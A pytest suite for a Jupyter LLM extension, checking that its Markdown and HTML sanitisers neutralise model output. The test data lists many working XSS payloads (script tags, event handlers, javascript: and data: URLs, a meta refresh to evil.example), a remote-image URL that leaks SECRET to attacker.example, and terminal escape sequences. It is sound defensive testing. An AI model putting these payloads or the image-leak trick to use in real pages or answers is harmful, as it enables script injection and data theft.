"""safe_markdown and safe_html: raw HTML from the model never runs; code, math and the rest read as written."""
from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from jupyter_llm.core.markdown import safe_markdown
from jupyter_llm.display.safe import safe_html


def raw_html(markdown: str) -> list[str]:
    """The raw HTML a CommonMark renderer (with HTML on, like JupyterLab) would emit."""
    found, stack = [], list(MarkdownIt("commonmark", {"html": True}).enable("table").parse(markdown))
    while stack:
        token = stack.pop()
        if token.type in ("html_block", "html_inline"):
            found.append(token.content)
        stack.extend(token.children or ())
    return found


@pytest.mark.parametrize(
    "text, expected",
    [
        ("Hi <script>alert(1)</script>!", "Hi &lt;script>alert(1)&lt;/script>!"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
        ('<iframe src="//evil.example"></iframe>', '&lt;iframe src="//evil.example">&lt;/iframe>'),
        ("before <!-- hidden --> after", "before &lt;!-- hidden --> after"),
        ("<!DOCTYPE html> <?php x ?>", "&lt;!DOCTYPE html> &lt;?php x ?>"),
        ("<div>\n\n**bold** inside\n\n</div>", "&lt;div>\n\n**bold** inside\n\n&lt;/div>"),
        ("| a | <b>x</b> |\n|---|---|\n| 1 | 2 |", "| a | &lt;b>x&lt;/b> |\n|---|---|\n| 1 | 2 |"),
    ],
)
def test_tags_comments_and_declarations_are_escaped(text, expected):
    assert safe_markdown(text) == expected
    assert raw_html(safe_markdown(text)) == []


@pytest.mark.parametrize(
    "text",
    [
        "Use `<script>` tags and ``a `<b>` b`` spans.",
        "```html\n<script>alert(1)</script>\n<!-- c -->\n```",
        "~~~\n<img src=x onerror=alert(1)>\n~~~",
        "Text\n\n    <indented code>\n    </indented>\n",
        "- item\n\n  ```\n  <in a list>\n  ```",
        "> ```\n> <in a quote>\n> ```",
        "a < b, b > c, x<5, 1 <= 2, <> and < /x>",
        "$$\\sum_{i < n} x_i$$ and $x < y$",
        "| x | y |\n|---|---|\n| `<b>` | a < b |",
        "See <https://example.org/a?b=1> or write <someone@example.org>.",
        r"Escaped \<b> stays escaped.",
        "No angle brackets at all: **bold**, _em_, [link](https://example.org).",
    ],
)
def test_code_math_autolinks_and_plain_comparisons_are_untouched(text):
    assert safe_markdown(text) == text


def test_math_keeps_rendering_and_cannot_hold_a_tag():
    assert safe_markdown("$a<b$ and $$\\sum_{i<n}$$") == "$a< b$ and $$\\sum_{i< n}$$"
    assert raw_html(safe_markdown("$<script>alert(1)</script>$")) == []


@pytest.mark.parametrize(
    "text",
    [
        # An unclosed backtick is literal text, so the tag after it is live.
        "`unclosed <script>alert(1)</script>",
        # A code span cannot reach into a heading.
        "`foo\n# <script>alert(1)</script> `",
        # Escaping the comment turns it into a paragraph that swallows the indented line.
        "<!-- c -->\n    <script>alert(1)</script>\n",
        # The unindented line ends the list item and its fence.
        "- item\n\n  ```\n  code\n<script>alert(1)</script>\n  ```",
        # An unclosed fence runs to the end: all code, all shown as text.
        "Intro <b>x</b>\n\n```\n<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
        "[x](<javascript:alert(1)>) <javascript:alert(1)>",
        "*<em onmouseover=alert(1)>*",
    ],
)
def test_broken_or_tricky_markdown_leaves_no_raw_html(text):
    assert raw_html(safe_markdown(text)) == []


def test_a_span_that_starts_on_one_line_and_ends_on_the_next_is_still_code():
    text = "`foo\nbar` <script>x()</script> `baz <b>`"
    assert safe_markdown(text) == "`foo\nbar` &lt;script>x()&lt;/script> `baz <b>`"


# -- safe_html (-f html) -------------------------------------------------------------------

ATTACKS = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  java\tscript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<svg><script>alert(1)</script></svg>',
    '<svg onload=alert(1)>',
    '<body onload=alert(1)>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<form action="https://evil.example"><input name=a></form>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<math><mtext><script>alert(1)</script></mtext></math>',
    '<details open ontoggle=alert(1)>',
    '<<script>script>alert(1)<</script>/script>',
    '<style>body{display:none}</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<!--<script>alert(1)</script>-->',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">covered</div>',
]


def _tags_and_attributes(html: str):
    from html.parser import HTMLParser

    seen = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            seen.append((tag, dict(attrs)))

    Collect().feed(html)
    return seen


@pytest.mark.parametrize("attack", ATTACKS)
def test_safe_html_runs_nothing(attack):
    from jupyter_llm.display.safe import safe_html

    cleaned = safe_html(attack)
    for tag, attributes in _tags_and_attributes(cleaned):
        assert tag not in ("script", "iframe", "svg", "math", "style", "object", "embed", "form", "meta", "body")
        assert not any(name.startswith("on") for name in attributes), cleaned
        for name in ("href", "src"):
            assert "script" not in attributes.get(name, "").lower(), cleaned
            assert not attributes.get(name, "").lower().startswith("data:text"), cleaned
        assert "url(" not in attributes.get("style", "") and "position" not in attributes.get("style", "")
    assert "<script" not in cleaned.lower()


def test_safe_html_keeps_tables_links_and_text():
    from jupyter_llm.display.safe import safe_html

    html = ('<h2>Fruit</h2><table><tr><th colspan="2">A &amp; B</th></tr><tr><td style="color: red">1 &lt; 2</td>'
            '</tr></table><a href="https://example.org/a?b=1">link</a><img src="data:image/png;base64,AAAA" alt="dot">')
    # The sanitiser rebuilds the document: tables get their implied <tbody>, styles are re-serialised.
    assert safe_html(html) == (
        '<h2>Fruit</h2><table><tbody><tr><th colspan="2">A &amp; B</th></tr><tr><td style="color:red">1 &lt; 2</td>'
        '</tr></tbody></table><a href="https://example.org/a?b=1" target="_blank" rel="noopener noreferrer">link</a>'
        '<img src="data:image/png;base64,AAAA" alt="dot">')


# -- remote images and terminal escapes ---------------------------------------------------

EXFIL = "https://attacker.example/p.png?q=SECRET"
INLINE = "data:image/png;base64,iVBORw0KGgo="


def rendered_images(markdown: str) -> list[str]:
    """The image sources a Markdown renderer (JupyterLab's, say) would load for ``markdown``."""
    found, stack = [], list(MarkdownIt("commonmark").parse(markdown))
    while stack:
        token = stack.pop()
        if token.type == "image":
            found.append(token.attrGet("src"))
        stack.extend(token.children or ())
    return found


@pytest.mark.parametrize("text", [
    f"Look: ![chart]({EXFIL})",
    f'![chart]({EXFIL} "title") and ![second](<{EXFIL}>)',
    f"![chart][pixel]\n\n[pixel]: {EXFIL}",
    f"- item ![x]({EXFIL})\n\n> ![quoted]({EXFIL})",
])
def test_a_remote_image_in_model_markdown_is_a_link_not_loaded(text):
    safe = safe_markdown(text)
    assert rendered_images(safe) == [] and EXFIL in safe, "shown as a link to the URL, never fetched"
    assert rendered_images(safe_markdown(f"![ok]({INLINE}) {text}")) == [INLINE], "inline images stay"
    assert "![x](https://a.example/i.png)" in safe_markdown("`![x](https://a.example/i.png)`"), "code is as written"


def test_a_remote_image_in_model_html_is_a_link_and_inline_images_stay():
    html = safe_html(f'<p>Chart: <img src="{EXFIL}" alt="chart"> <img src="{INLINE}" alt="dot"></p>')
    assert f'<img src="{INLINE}"' in html and "<img src=\"https" not in html
    assert 'href="https://attacker.example/p.png?q=SECRET"' in html and ">chart</a>" in html


def test_remote_images_load_when_the_session_allows_them():
    import jupyter_llm

    session = jupyter_llm.session
    session.remote_images = True
    try:
        assert rendered_images(safe_markdown(f"![chart]({EXFIL})")) == [EXFIL]
        assert f'<img src="{EXFIL}"' in safe_html(f'<img src="{EXFIL}">')
    finally:
        session.remote_images = False
    assert rendered_images(safe_markdown(f"![chart]({EXFIL})")) == []


@pytest.mark.parametrize("escape", [
    "\x1b[31m", "\x1b[0m", "\x1b]0;pwned\x07", "\x1b]8;;https://attacker.example\x1b\\", "\x1b[2J\x1b[H", "\x9b31m",
    "\x07", "\x1bc",
])
def test_terminal_escape_sequences_never_reach_an_output(escape):
    from jupyter_llm.display.html import answer_bundle, render_markdown

    text = f"before {escape}red{escape} after <b>"
    for out in (safe_markdown(text), safe_html(text), render_markdown(text), *answer_bundle(text).values()):
        assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out
        assert "red" in out and "before" in out
